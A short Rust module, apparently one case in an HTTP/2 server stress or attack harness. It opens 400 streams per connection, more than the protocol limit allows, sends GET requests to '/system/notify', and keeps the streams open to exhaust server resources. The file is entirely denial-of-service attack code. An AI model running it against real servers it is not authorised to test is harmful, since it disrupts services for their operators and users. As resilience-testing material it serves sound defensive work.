//! More streams on one HTTP/2 connection than it may have.

use super::super::attacker::Attacker;
use super::super::ends::Ends;
use super::super::frames::get;
use super::super::http2::{Connection, id};

/// How many streams each connection asks for.
const STREAMS: u32 = 400;

/// Opens streams and keeps them.
pub(super) async fn attack(attacker: &Attacker) -> Ends {
    attacker
        .with_each(|attacker, stream| async move {
            let mut connection = Connection::begin(attacker, stream, &[]).await;
            let streams: Vec<u8> = (0..STREAMS).flat_map(|index| get(id(index), "/system/notify")).collect();
            connection.send(&streams).await;
            connection.listen().await
        })
        .await
}
